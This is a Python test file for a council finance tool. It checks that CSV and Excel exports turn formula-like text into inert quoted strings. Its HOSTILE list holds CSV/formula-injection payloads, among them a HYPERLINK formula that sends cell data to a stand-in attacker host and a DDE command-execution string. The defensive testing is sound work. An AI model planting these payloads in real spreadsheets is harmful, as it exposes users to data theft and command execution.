"""Every CSV and Excel file writes text as text: nothing a council or a user typed becomes a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from raa_core import export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "comment": [*HOSTILE, "plain text", None],
        "=HYPERLINK(\"x\")": ["a"] * 9,
        "amount": [Decimal("-12.50")] * 9,
        "n": [-3] * 9,
        "when": [dt.date(2022, 10, 7)] * 9,
    })


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_csv_neutralises_formula_like_text_and_headers_but_not_numbers() -> None:
    rows = list(csv.reader(io.StringIO(export.table_csv(_frame()).decode("utf-8-sig"), newline="")))
    assert rows[0][1] == "'=HYPERLINK(\"x\")"
    assert [r[0] for r in rows[1:8]] == ["'" + h for h in HOSTILE]
    assert rows[8][0] == "plain text"
    assert {r[2] for r in rows[1:]} == {"-12.50"} and {r[3] for r in rows[1:]} == {"-3"}


def test_excel_writes_text_cells_never_formulas() -> None:
    data = export.table_xlsx(_frame(), sheet="comments", title="=TITLE()")
    assert "<f>" not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws.cell(1, 1).value == "=TITLE()" and ws.cell(1, 1).data_type == "s"
    header = [c.value for c in ws[3]]
    assert header[1] == '=HYPERLINK("x")'
    comments = [ws.cell(r, 1) for r in range(4, 11)]
    # xlsx escapes a carriage return as _x000D_ (Excel reads it back as CR; openpyxl leaves it escaped)
    assert [c.value.replace("_x000D_", "\r") for c in comments] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in comments)
    assert ws.cell(4, 3).value == -12.5 and ws.cell(4, 4).value == -3
    assert ws.cell(4, 5).value == dt.datetime(2022, 10, 7)


def test_monitoring_workbook_comment_is_text(sample_con, ref) -> None:
    from raa_core.monitoring import monitor
    from raa_core.monitoring_export import monitoring_workbook

    report = monitor(sample_con, ref, "2026-27")
    comments = pd.DataFrame([{"la_code": 886, "financial_year": "2026-27", "period": 6, "budget_area": "pooled",
                              "cost_line": "panels", "comment": HOSTILE[0], "author": "@hos",
                              "created_at": dt.datetime(2026, 10, 1)}])
    data = monitoring_workbook(report, comments=comments)
    assert "<f>" not in _sheet_xml(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found = [c for row in wb["Commentary"].iter_rows() for c in row if c.value == HOSTILE[0]]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


@settings(deadline=None, max_examples=60)
@given(st.text(min_size=1, max_size=20))
def test_any_text_round_trips_through_excel_as_text(text: str) -> None:
    clean = "".join(ch for ch in text if ch.isprintable() or ch in "\t\r")
    if not clean:
        return
    data = export.table_xlsx(pd.DataFrame({"v": [clean]}))
    cell = openpyxl.load_workbook(io.BytesIO(data)).active.cell(2, 1)
    assert cell.data_type == "s"
    assert cell.quotePrefix == export.is_formula_like(clean)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_marks_every_trigger(text: str) -> None:
    assert export.csv_text(text).startswith("'")
